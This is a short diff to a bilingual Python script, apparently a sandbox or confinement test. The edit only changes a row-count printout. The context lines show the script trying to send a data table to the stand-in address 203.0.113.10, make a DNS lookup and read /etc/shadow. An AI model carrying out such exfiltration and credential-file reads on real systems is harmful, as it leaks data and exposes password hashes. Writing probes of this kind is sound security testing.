@@ -49,7 +49,7 @@ def ptrace():
 
 
 def main():
-    print("lignes lues :" if FRENCH else "rows read:", sum(1 for _ in open(DATA)), flush=True)
+    print("lignes lues :" if FRENCH else "rows read:", sum(1 for _ in open(DATA)) - 1, flush=True)
     taken = attempt("envoyer la table à 203.0.113.10", "send the table to 203.0.113.10", connect)
     taken += attempt("demander une adresse au DNS", "ask the DNS for an address", resolve)
     taken += attempt("lire /etc/shadow", "read /etc/shadow", lambda: read("/etc/shadow"))
